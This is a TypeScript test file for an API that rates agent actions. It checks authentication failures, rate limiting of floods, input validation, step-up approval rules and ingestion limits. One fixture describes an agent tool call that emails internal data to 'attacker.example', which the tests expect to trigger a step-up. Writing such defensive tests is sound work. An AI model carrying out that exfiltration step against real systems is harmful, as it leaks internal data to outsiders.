/**
 * The decision API's edges, as an attacker probes them: failed authentication is counted per
 * address and refused before any signature check, every 401 says the same thing, token lifetimes
 * are bounded, ids of the contract's full length work as path parameters, no error quotes what
 * the caller sent, a step-up cannot be approved by who asked for it, and ingestion refuses work
 * past its bounds instead of holding it.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { SignJWT } from 'jose';
import { createLogger } from '@chainwatch/runtime';
import { DecisionResponse } from '@chainwatch/schemas';
import { MemoryLog, type OutgoingRecord, type RecordPublisher } from '@chainwatch/kafka';
import { buildDecisionApi, createDevAuth, createJwtVerifier, type DecisionApi, type DecisionApiOptions, type DevAuth, type JwtVerifier } from '@chainwatch/decision-api';
import { makeEvent } from '@chainwatch/testing';
import { FakeEngine, taintedSignal } from './fake-engine';
import { bearer, buildHarness, decisionRequest, freshView, type Harness } from './harness';

const READ = { kind: 'tool_call', tool: 'kb.search', operation: 'read', data_class: 'internal' } as const;
const SEND_OUT = { kind: 'tool_call', tool: 'email.send', operation: 'send', destination: 'attacker.example', data_class: 'internal', args: { to: 'x@attacker.example' } } as const;
const NDJSON = { 'content-type': 'application/x-ndjson' };

let harness: Harness | null = null;
let apis: DecisionApi[] = [];
afterEach(async () => {
  await harness?.close();
  harness = null;
  for (const a of apis) await a.app.close();
  apis = [];
});

/** An API over a verifier that counts its signature checks. */
async function countingApi(options: DecisionApiOptions, publisher: RecordPublisher = new MemoryLog()): Promise<{ api: DecisionApi; auth: DevAuth; verifications: () => number }> {
  const auth = await createDevAuth();
  const real = await createJwtVerifier({ jwks: auth.jwks, issuer: auth.issuer, audience: auth.audience });
  let verifications = 0;
  const verifier: JwtVerifier = {
    cached: (token, now) => real.cached?.(token, now),
    verify: (token, now) => {
      verifications++;
      return real.verify(token, now);
    },
  };
  const engine = new FakeEngine();
  const api = await buildDecisionApi({
    view: freshView(engine),
    publisher,
    auth: { verifier },
    options,
    logger: createLogger({ name: 'edges-test', level: 'silent' }),
  });
  apis.push(api);
  return { api, auth, verifications: () => verifications };
}

describe('authentication', () => {
  it('one 401 for every failure: no token, malformed, foreign key, expired, wrong audience, too long a lifetime', async () => {
    harness = await buildHarness(new FakeEngine());
    const h = harness;
    const foreign = await createDevAuth();
    const tokens: (string | null)[] = [
      null,
      'not-a-jwt',
      foreign.token,
      await h.auth.sign({ sub: 'x', roles: ['enforcer'], ttlS: -120 }),
      await h.auth.sign({ sub: 'x', roles: ['enforcer'], audience: 'someone-else' }),
      await h.auth.sign({ sub: 'x', roles: ['enforcer'], ttlS: 100 * 365 * 24 * 3600 }),
    ];
    const bodies = new Set<string>();
    for (const token of tokens) {
      const res = await h.api.app.inject({ method: 'POST', url: '/v1/decisions', headers: token === null ? {} : bearer(token), payload: decisionRequest('s-401', READ) });
      expect(res.statusCode).toBe(401);
      bodies.add(res.body);
    }
    expect([...bodies]).toEqual([JSON.stringify({ error: { code: 'CW_UNAUTHENTICATED', message: 'missing or invalid bearer token', retriable: false } })]);
  });

  it('refuses tokens whose lifetime (exp - iat) exceeds the configured maximum, and tokens without iat', async () => {
    const auth = await createDevAuth();
    const verifier = await createJwtVerifier({ jwks: auth.jwks, issuer: auth.issuer, audience: auth.audience, maxLifetimeS: 3600 });
    await expect(verifier.verify(await auth.sign({ sub: 'a', roles: [], ttlS: 3600 }))).resolves.toMatchObject({ sub: 'a' });
    await expect(verifier.verify(await auth.sign({ sub: 'b', roles: [], ttlS: 3601 }))).rejects.toThrow(/lifetime/);
    // The default: 24 h. A century-long token is refused.
    const byDefault = await createJwtVerifier({ jwks: auth.jwks, issuer: auth.issuer, audience: auth.audience });
    await expect(byDefault.verify(await auth.sign({ sub: 'c', roles: [], ttlS: 100 * 365 * 24 * 3600 }))).rejects.toThrow(/lifetime/);
    await expect(byDefault.verify(await auth.sign({ sub: 'd', roles: [], ttlS: 12 * 3600 }))).resolves.toMatchObject({ sub: 'd' });
    // Without iat the lifetime is unknown: refused.
    const { privateKey, publicKey } = await import('jose').then((j) => j.generateKeyPair('ES256', { extractable: true }));
    const jwk = { ...(await import('jose').then((j) => j.exportJWK(publicKey))), kid: 'k1', alg: 'ES256' };
    const own = await createJwtVerifier({ jwks: { keys: [jwk] }, issuer: 'i', audience: 'a' });
    const noIat = await new SignJWT({ roles: [] }).setProtectedHeader({ alg: 'ES256', kid: 'k1' }).setSubject('e').setIssuer('i').setAudience('a').setExpirationTime('1h').sign(privateKey);
    await expect(own.verify(noIat)).rejects.toThrow(/iat/);
  });

  it('counts failed and missing authentication per address and refuses it before any signature check', async () => {
    const { api, auth, verifications } = await countingApi({ authFailuresMax: 5, authFailuresWindowMs: 60_000 });
    const foreign = await createDevAuth();
    const good = auth.token;
    const attacker = '10.0.0.66';
    // A legitimate client behind the same address, verified before the flood: cached, never counted.
    const ok = await api.app.inject({ method: 'GET', url: '/v1/sessions/s-x/risk', headers: bearer(good), remoteAddress: attacker });
    expect(ok.statusCode).toBe(404);
    expect(verifications()).toBe(1);

    const statuses: number[] = [];
    let retryAfter: string | undefined;
    for (let i = 0; i < 60; i++) {
      const headers = i % 3 === 0 ? {} : bearer(i % 3 === 1 ? foreign.token : 'garbage');
      const res = await api.app.inject({ method: 'POST', url: '/v1/decisions', headers, payload: decisionRequest('s-flood', READ), remoteAddress: attacker });
      statuses.push(res.statusCode);
      if (res.statusCode === 429) {
        retryAfter = res.headers['retry-after'] as string;
        expect(res.json()).toMatchObject({ error: { code: 'CW_RATE_LIMITED', retriable: true } });
      }
    }
    expect(statuses.slice(0, 5)).toEqual([401, 401, 401, 401, 401]);
    expect(statuses.slice(5).every((s) => s === 429)).toBe(true);
    expect(Number(retryAfter)).toBeGreaterThan(0);
    // At most `max` signature checks for the whole flood (missing tokens cost none), plus the legitimate one.
    expect(verifications()).toBeLessThanOrEqual(1 + 5);

    // The cached legitimate token still passes from that address; another address is not limited.
    expect((await api.app.inject({ method: 'GET', url: '/v1/sessions/s-x/risk', headers: bearer(good), remoteAddress: attacker })).statusCode).toBe(404);
    const other = await api.app.inject({ method: 'POST', url: '/v1/decisions', headers: bearer('garbage'), payload: decisionRequest('s-flood', READ), remoteAddress: '10.0.0.7' });
    expect(other.statusCode).toBe(401);
    // Unknown routes are guarded the same way.
    expect((await api.app.inject({ method: 'GET', url: '/v1/nope', remoteAddress: attacker })).statusCode).toBe(429);
  });
});

describe('path parameters and error shapes', () => {
  it('accepts ids of the contract length (256) as path parameters and refuses longer ones in the documented shape, never echoing the path', async () => {
    const engine = new FakeEngine();
    const longId = `s-${'a'.repeat(254)}`;
    engine.loadSignal({ ...taintedSignal(longId, 'evt-1', 2), trace_id: 'trace-long' });
    harness = await buildHarness(engine);
    const h = harness;
    const at256 = await h.api.app.inject({ method: 'GET', url: `/v1/sessions/${longId}/risk`, headers: bearer(h.token) });
    expect(at256.statusCode).toBe(200);
    expect(at256.json()).toMatchObject({ session_id: longId });
    // Non-ASCII ids percent-encode to several characters each: 256 of them still fit.
    const wide = 'é'.repeat(256);
    expect((await h.api.app.inject({ method: 'GET', url: `/v1/sessions/${encodeURIComponent(wide)}/risk`, headers: bearer(h.token) })).statusCode).toBe(404);

    const over = await h.api.app.inject({ method: 'GET', url: `/v1/sessions/${'b'.repeat(257)}/risk`, headers: bearer(h.token) });
    expect(over.statusCode).toBe(400);
    expect(over.json()).toMatchObject({ error: { code: 'CW_INVALID_REQUEST', issues: [expect.objectContaining({ path: 'id' })] } });
    expect(over.body).not.toContain('bbbbbbbbbb');

    const huge = await h.api.app.inject({ method: 'GET', url: `/v1/sessions/${'c'.repeat(5000)}/risk`, headers: bearer(h.token) });
    expect(huge.statusCode).toBe(414);
    expect(huge.json()).toEqual({ error: { code: 'CW_INVALID_REQUEST', message: 'request failed: path parameter too long', retriable: false } });

    const malformed = await h.api.app.inject({ method: 'GET', url: '/v1/sessions/%zzsecret/risk', headers: bearer(h.token) });
    expect(malformed.statusCode).toBe(400);
    expect(malformed.json()).toMatchObject({ error: { code: 'CW_INVALID_REQUEST' } });
    expect(malformed.body).not.toContain('secret');
  });

  it('never quotes a malformed JSON body', async () => {
    harness = await buildHarness(new FakeEngine());
    const res = await harness.api.app.inject({ method: 'POST', url: '/v1/decisions', headers: { ...bearer(harness.token), 'content-type': 'application/json' }, payload: '{"session_id": TOPSECRET' });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toEqual({ error: { code: 'CW_INVALID_REQUEST', message: 'request failed: body is not valid JSON', retriable: false } });
  });

  it('an unknown key is named cut to 32 characters, with the valid keys, however long it is', async () => {
    harness = await buildHarness(new FakeEngine());
    const key = `k${'x'.repeat(100_000)}`;
    const res = await harness.api.app.inject({ method: 'POST', url: '/v1/decisions', headers: bearer(harness.token), payload: { ...decisionRequest('s-k', READ), [key]: 1 } });
    expect(res.statusCode).toBe(400);
    expect(res.body.length).toBeLessThan(2000);
    const issue = (res.json() as { error: { issues: { path: string; message: string; code: string }[] } }).error.issues[0]!;
    expect(issue.code).toBe('unrecognized_keys');
    expect(issue.message).toContain(`"k${'x'.repeat(31)}…"`);
    expect(issue.message).toMatch(/valid keys: session_id, trace_id, .*action/);

    // Same inside NDJSON ingestion, at the nested place.
    const event = makeEvent();
    const line = JSON.stringify({ ...event, action: { ...event.action, [key]: true } });
    const ingest = await harness.api.app.inject({ method: 'POST', url: '/v1/events', headers: { ...bearer(harness.token), ...NDJSON }, payload: line });
    expect(ingest.statusCode).toBe(400);
    expect(ingest.body.length).toBeLessThan(3000);
    expect(ingest.body).toContain('valid keys: kind, tool, operation');
  });
});

describe('poison lines in NDJSON and decisions', () => {
  it('a line nested 10,000 deep or carrying a lone surrogate is rejected with its reason; the good lines are kept', async () => {
    harness = await buildHarness(new FakeEngine());
    let deep: unknown = {};
    for (let i = 0; i < 10_000; i++) deep = { k: deep };
    const good1 = makeEvent({ trace_id: 't-good-1' });
    const good2 = makeEvent({ trace_id: 't-good-2' });
    const deepLine = `{"schema_version":1,"event_id":"${crypto.randomUUID()}","ts":${Date.now()},"session_id":"s","trace_id":"t","agent":{"id":"a","type":"t","spiffe_id":"spiffe://e.org/a"},"principal":{"sub":"u"},"task":{"id":"x"},"action":{"kind":"tool_call","tool":"t","args":${'{"k":'.repeat(10_000)}1${'}'.repeat(10_000)}}}`;
    const surrogate = JSON.stringify({ ...makeEvent(), session_id: 'sess-\ud800' });
    expect(surrogate).toContain('\\ud800');
    const body = [JSON.stringify(good1), deepLine, surrogate, JSON.stringify(good2)].join('\n');
    const res = await harness.api.app.inject({ method: 'POST', url: '/v1/events', headers: { ...bearer(harness.token), ...NDJSON }, payload: body });
    expect(res.statusCode).toBe(200);
    const out = res.json() as { accepted: number; rejected: { line: number; error: string }[] };
    expect(out.accepted).toBe(2);
    expect(out.rejected).toEqual([
      expect.objectContaining({ line: 2, error: expect.stringMatching(/action\.args: must nest at most 32 levels/) }),
      expect.objectContaining({ line: 3, error: expect.stringMatching(/session_id: must be well-formed Unicode/) }),
    ]);
    expect(harness.log.records('agent.actions').map((r) => r.key)).toEqual(['t-good-1', 't-good-2']);
  });

  it('a decision request carrying a lone surrogate id is a 400, not a decision', async () => {
    harness = await buildHarness(new FakeEngine());
    const res = await harness.api.app.inject({ method: 'POST', url: '/v1/decisions', payload: JSON.stringify(decisionRequest('sess-\udc00', READ)), headers: { ...bearer(harness.token), 'content-type': 'application/json' } });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ error: { code: 'CW_INVALID_REQUEST', issues: expect.arrayContaining([expect.objectContaining({ path: 'session_id', message: expect.stringMatching(/well-formed/) })]) } });
    expect(await harness.decisionRecords()).toHaveLength(0);
  });
});

describe('separation of duties', () => {
  it('the subject that asked for a step-up cannot approve it; another approver can; bindings record who asked', async () => {
    const engine = new FakeEngine();
    engine.loadSignal(taintedSignal('s-sod', 'evt-read-1'));
    harness = await buildHarness(engine);
    const h = harness;
    const both = await h.auth.sign({ sub: 'gateway-and-approver', roles: ['enforcer', 'approver'] });
    const asked = await h.api.app.inject({ method: 'POST', url: '/v1/decisions', headers: bearer(both), payload: decisionRequest('s-sod', SEND_OUT) });
    const first = DecisionResponse.parse(asked.json());
    expect(first.decision).toBe('step_up');
    const binding = first.obligations.approval!.binding;
    expect(h.api.bindings.redeem(binding, 'x', 'y', Date.now())).toMatchObject({ ok: false, binding: expect.objectContaining({ requestedBy: 'gateway-and-approver' }) });

    const self = await h.api.app.inject({ method: 'POST', url: `/v1/approvals/${binding}`, headers: bearer(both), payload: { approve: true } });
    expect(self.statusCode).toBe(403);
    expect(self.json()).toMatchObject({ error: { code: 'CW_APPROVAL_SELF', retriable: false } });
    const other = await h.auth.sign({ sub: 'security-lead', roles: ['approver'] });
    const answered = await h.api.app.inject({ method: 'POST', url: `/v1/approvals/${binding}`, headers: bearer(other), payload: { approve: true } });
    expect(answered.statusCode).toBe(200);

    await h.api.approvalLog.flush();
    const states = h.log.records('chainwatch.approvals').map((r) => JSON.parse(r.value.toString('utf8')) as { state: string; requested_by?: string; by: string | null });
    expect(states.map((s) => [s.state, s.requested_by, s.by])).toEqual([
      ['pending', 'gateway-and-approver', null],
      ['approved', 'gateway-and-approver', 'security-lead'],
    ]);
  });

  it('APPROVAL_ALLOW_SELF lets one subject ask and approve', async () => {
    const engine = new FakeEngine();
    engine.loadSignal(taintedSignal('s-self', 'evt-read-1'));
    harness = await buildHarness(engine, { approvalAllowSelf: true });
    const first = DecisionResponse.parse((await harness.api.app.inject({ method: 'POST', url: '/v1/decisions', headers: bearer(harness.token), payload: decisionRequest('s-self', SEND_OUT) })).json());
    const res = await harness.api.app.inject({ method: 'POST', url: `/v1/approvals/${first.obligations.approval!.binding}`, headers: bearer(harness.token), payload: { approve: true } });
    expect(res.statusCode).toBe(200);
  });
});

describe('ingestion bounds', () => {
  /** A publisher whose acknowledgements the test releases by hand. */
  class HeldPublisher implements RecordPublisher {
    readonly held: (() => void)[] = [];
    published = 0;
    publish(_topic: string, records: readonly OutgoingRecord[]): Promise<void> {
      return new Promise((resolve) => {
        this.held.push(() => {
          this.published += records.length;
          resolve();
        });
      });
    }
  }

  it('past the bytes in flight, a batch is refused with 503 and Retry-After instead of being held', async () => {
    const publisher = new HeldPublisher();
    const { api, auth } = await countingApi({ ingest: { maxInFlightBytes: 4096 } }, publisher);
    const batch = Array.from({ length: 6 }, () => JSON.stringify(makeEvent())).join('\n');
    expect(batch.length).toBeGreaterThan(2048);
    const first = api.app.inject({ method: 'POST', url: '/v1/events', headers: { ...bearer(auth.token), ...NDJSON }, payload: batch });
    while (publisher.held.length === 0) await new Promise((r) => setTimeout(r, 5));
    const second = await api.app.inject({ method: 'POST', url: '/v1/events', headers: { ...bearer(auth.token), ...NDJSON }, payload: batch });
    expect(second.statusCode).toBe(503);
    expect(second.headers['retry-after']).toBe('2');
    expect(second.json()).toMatchObject({ error: { code: 'CW_OVERLOADED', retriable: true } });
    publisher.held.shift()!();
    expect((await first).statusCode).toBe(200);
    // Released: the next batch passes again.
    const third = api.app.inject({ method: 'POST', url: '/v1/events', headers: { ...bearer(auth.token), ...NDJSON }, payload: batch });
    while (publisher.held.length === 0) await new Promise((r) => setTimeout(r, 5));
    publisher.held.shift()!();
    expect((await third).statusCode).toBe(200);
    expect(publisher.published).toBe(12);
  });

  it('past the downstream backlog, a batch is refused with 503 and Retry-After', async () => {
    let backlog = 0;
    const { api, auth } = await countingApi({ ingest: { backlog: () => backlog, maxBacklog: 100 } });
    const line = JSON.stringify(makeEvent());
    expect((await api.app.inject({ method: 'POST', url: '/v1/events', headers: { ...bearer(auth.token), ...NDJSON }, payload: line })).statusCode).toBe(200);
    backlog = 100;
    const refused = await api.app.inject({ method: 'POST', url: '/v1/events', headers: { ...bearer(auth.token), ...NDJSON }, payload: line });
    expect(refused.statusCode).toBe(503);
    expect(refused.headers['retry-after']).toBeDefined();
    expect(refused.json()).toMatchObject({ error: { code: 'CW_OVERLOADED' } });
  });
});

describe('issue formatting', () => {
  it('lists the valid keys of the object the unknown key was found in, through optional and nested schemas', async () => {
    const { z } = await import('zod');
    const { toIssues } = await import('@chainwatch/decision-api');
    const Query = z.object({ from: z.string().optional(), to: z.string().optional(), nested: z.object({ a: z.number(), b: z.number() }).strict().optional() }).strict();
    const result = Query.safeParse({ session_id: 'x', nested: { a: 1, b: 2, ['c'.repeat(500)]: 3 } });
    expect(result.success).toBe(false);
    const issues = toIssues(result.error!.issues, Query);
    expect(issues).toEqual(
      expect.arrayContaining([
        { path: '', message: 'unknown key "session_id"; valid keys: from, to, nested', code: 'unrecognized_keys' },
        { path: 'nested', message: `unknown key "${'c'.repeat(32)}…"; valid keys: a, b`, code: 'unrecognized_keys' },
      ]),
    );
  });
});
